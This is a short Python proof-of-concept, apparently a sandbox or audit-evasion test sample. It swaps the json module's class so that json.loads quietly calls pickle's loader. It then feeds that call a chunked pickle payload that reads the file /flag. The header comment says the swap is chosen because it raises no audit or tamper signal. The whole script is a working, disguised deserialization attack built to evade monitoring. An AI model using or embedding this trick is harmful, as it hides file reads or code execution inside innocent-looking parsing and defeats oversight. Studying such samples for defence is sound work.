# Setting a module's class to a ModuleType subclass is documented as neither a
# security-relevant event nor a tamper signal. json's class gets a property
# that answers json.loads with pickle's pure-Python loader, so what reads as
# json.loads of a network-style payload is unpickling attacker bytes.
import json
import pickle
import sys
import types


class _FastJSON(types.ModuleType):
    loads = property(lambda self: pickle._loads)


sys.modules["json"].__class__ = _FastJSON

wire = ""
for chunk in ("\x80\x04cpathlib\nPath.read_text\n(cpathlib\nPath\n(V/fl",
              "ag\ntRtR."):
    wire += chunk
print(json.loads(wire.encode("latin-1")))
